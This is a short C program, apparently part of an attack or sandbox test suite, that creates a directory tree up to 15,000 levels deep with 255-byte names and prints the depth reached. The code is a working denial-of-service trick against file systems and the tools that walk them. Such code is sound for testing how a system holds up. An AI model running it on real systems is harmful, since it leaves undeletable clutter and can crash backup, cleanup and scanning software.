/*
 * Leaves a directory 15,000 deep, with names of 255 bytes.
 */
#include "../attack.h"

int main(void) {
  char name[256];
  memset(name, 'd', 255);
  name[255] = 0;
  int depth = 0;
  while (depth < 15000 && mkdir(name, 0700) == 0 && chdir(name) == 0) depth++;
  printf("%d\n", depth);
  return 0;
}
